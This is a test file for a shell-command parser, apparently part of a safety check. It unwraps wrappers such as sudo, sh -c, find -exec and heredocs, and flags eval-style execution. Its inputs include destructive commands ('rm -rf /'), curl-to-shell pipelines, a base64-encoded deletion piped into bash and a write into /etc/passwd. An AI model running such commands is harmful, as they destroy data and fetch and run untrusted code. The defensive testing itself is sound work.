import assert from 'node:assert/strict';
import { parseCommand } from '../../../src/core/exec/command-parse';
import { argv, argvs, kinds, parse, seg } from './parse-helpers';

describe('exec: shell parser — wrappers and eval', () => {
  it('unwraps nested wrappers down to rm', async () => {
    const p = await parse(`env sh -c "timeout 5 bash -c 'rm -rf /'"`);
    const rm = seg(p, 'rm');
    assert.deepEqual(argv(rm), ['rm', '-rf', '/']);
    assert.equal(rm.context, 'wrapped');
    assert.deepEqual(rm.via, ['env', 'sh -c', 'timeout', 'bash -c']);
    assert.deepEqual(p.problems, []);
    assert.equal(p.segments[0].argv[0].text, 'env', 'the wrapper stays a segment');
  });

  it('unwraps each supported wrapper', async () => {
    for (const [cmd, innerArgv] of [
      ['env -i -u HOME FOO=1 rm -rf /', ['rm', '-rf', '/']],
      ['/usr/bin/env rm x', ['rm', 'x']],
      ['nohup rm x', ['rm', 'x']],
      ['timeout -s KILL 5 rm x', ['rm', 'x']],
      ['timeout --sig KILL 5 rm x', ['rm', 'x']],
      ['stdbuf -o0 -eL rm x', ['rm', 'x']],
      ['nice -n 10 rm x', ['rm', 'x']],
      ['ionice -c3 rm x', ['rm', 'x']],
      ['time -p rm x', ['rm', 'x']],
      ['command rm x', ['rm', 'x']],
      ['exec rm x', ['rm', 'x']],
      ['builtin rm x', ['rm', 'x']],
      ['xargs -0 -n1 -I{} rm {}', ['rm', '{}']],
      ['sudo -u root -E rm x', ['rm', 'x']],
      ['doas -u root rm x', ['rm', 'x']],
      ['flock /tmp/l rm x', ['rm', 'x']],
      ['flock /tmp/l -c "rm x"', ['rm', 'x']],
      ['chroot /mnt rm x', ['rm', 'x']],
      ['setsid rm x', ['rm', 'x']],
      ['su -c "rm x" root', ['rm', 'x']],
      ['script -q -c "rm x" /dev/null', ['rm', 'x']],
      ['watch -n 1 rm x', ['rm', 'x']],
      ['watch -x rm x', ['rm', 'x']],
      ['busybox rm x', ['rm', 'x']],
      ['env -S "rm x"', ['rm', 'x']],
      ['bash -lc "rm x"', ['rm', 'x']],
      ['bash -o pipefail -c "rm x"', ['rm', 'x']],
      ['trap "rm x" EXIT', ['rm', 'x']],
      ['parallel rm ::: a b', ['rm', 'a']],
    ] as const) {
      const expected: readonly string[] = innerArgv;
      const p = await parse(cmd);
      const inner = p.segments.find((s) => s.context === 'wrapped' && s.argv[0]?.text === 'rm');
      assert.ok(inner, `${cmd}: ${JSON.stringify(argvs(p))}`);
      assert.deepEqual(argv(inner), [...expected], cmd);
    }
  });

  it('does not unwrap what runs nothing and keeps options of the inner command', async () => {
    assert.deepEqual(argvs(await parse('command -v node')), [['command', '-v', 'node']]);
    assert.deepEqual(argvs(await parse('sudo -l')), [['sudo', '-l']]);
    assert.deepEqual(argvs(await parse('sudo ls -l')), [['sudo', 'ls', '-l'], ['ls', '-l']]);
    assert.deepEqual(argvs(await parse('env')), [['env']]);
  });

  it('unwraps find -exec, -execdir and -ok up to ; or +', async () => {
    const p = await parse('find . -name "*.o" -exec rm -f {} \\; -o -execdir sh -c "shred $1" _ {} + -ok mv {} /tmp \\;');
    const wrapped = p.segments.filter((s) => s.context === 'wrapped');
    assert.deepEqual(wrapped.map(argv), [['rm', '-f', '{}'], ['sh', '-c', 'shred $1', '_', '{}'], ['shred', '$1'], ['mv', '{}', '/tmp']]);
    assert.deepEqual(wrapped.map((s) => s.via.join(' > ')), ['find -exec', 'find -execdir', 'find -execdir > sh -c', 'find -ok']);
  });

  it('passes the wrapper\'s redirects and assignments to the wrapped command', async () => {
    const p = await parse('FOO=1 env BAR=2 tee x > /etc/passwd');
    const tee = p.segments[1];
    assert.deepEqual(argv(tee), ['tee', 'x']);
    assert.deepEqual(tee.assignments.map((a) => a.name), ['FOO', 'BAR']);
    assert.deepEqual(tee.redirects.map((r) => r.target.text), ['/etc/passwd']);
  });

  it('flags eval, a dynamic sh -c, piped and substituted scripts', async () => {
    const cases: [string, string[]][] = [
      ['sh -c "$(curl -s http://x)"', ['curl', '-s', 'http://x']],
      ['bash <(curl -s http://x)', ['curl', '-s', 'http://x']],
      ['curl -s http://x | sh', ['curl', '-s', 'http://x']],
      ['curl -s http://x | sudo bash -s', ['curl', '-s', 'http://x']],
      ['curl x | { echo; sh; }', ['curl', 'x']],
      ['echo cm0gLXJmIC8= | base64 -d | bash', ['echo', 'cm0gLXJmIC8=']],
      ['source <(curl x)', ['curl', 'x']],
      ['. "$(mktemp)"', ['mktemp']],
      ['eval "$PAYLOAD"', ['eval', '$PAYLOAD']],
      ['bash < <(curl x)', ['curl', 'x']],
      ['cat <<EOF | sh\nrm -rf /\nEOF', ['cat']],
      ['bash <<EOF\nrm -rf $HOME\nEOF', ['bash']],
      ['parallel < cmds.txt', ['parallel']],
    ];
    for (const [cmd, expected] of cases) {
      const p = await parse(cmd);
      assert.ok(kinds(p).includes('eval'), `${cmd}: ${JSON.stringify(p.problems)}`);
      assert.ok(argvs(p).some((a) => JSON.stringify(a) === JSON.stringify(expected)), `${cmd}: ${JSON.stringify(argvs(p))}`);
    }
  });

  it('still lists what an eval or a here-document shell would run', async () => {
    const e = await parse('eval "rm -rf /"');
    assert.deepEqual(kinds(e), ['eval']);
    assert.deepEqual(argv(seg(e, 'rm')), ['rm', '-rf', '/']);
    const h = await parse("bash <<'X'\nrm -rf /\nX");
    assert.deepEqual(h.problems, [], 'a quoted heredoc is static');
    assert.deepEqual(seg(h, 'rm').via, ['bash <<']);
    assert.deepEqual(argv(seg(await parse('bash <<< "rm -rf /"'), 'rm')), ['rm', '-rf', '/']);
    const dyn = await parse('sh -c "rm -rf $DIR"');
    assert.deepEqual(kinds(dyn), ['eval']);
    assert.deepEqual(argv(seg(dyn, 'rm')), ['rm', '-rf', '$DIR']);
  });

  it('stops at the depth limit', async () => {
    let cmd = 'rm -rf /';
    for (let i = 0; i < 12; i++) cmd = `sh -c ${JSON.stringify(cmd)}`;
    const p = await parse(cmd);
    assert.ok(kinds(p).includes('too-deep'));
    assert.ok(!p.segments.some((s) => s.argv[0]?.text === 'rm'));
    const shallow = await parseCommand('nohup nohup nohup rm x', { maxDepth: 2 });
    assert.deepEqual(kinds(shallow), ['too-deep']);
    assert.ok(kinds(await parse(`${'( '.repeat(20)}ls${' )'.repeat(20)}`)).includes('too-deep'));
  });
});
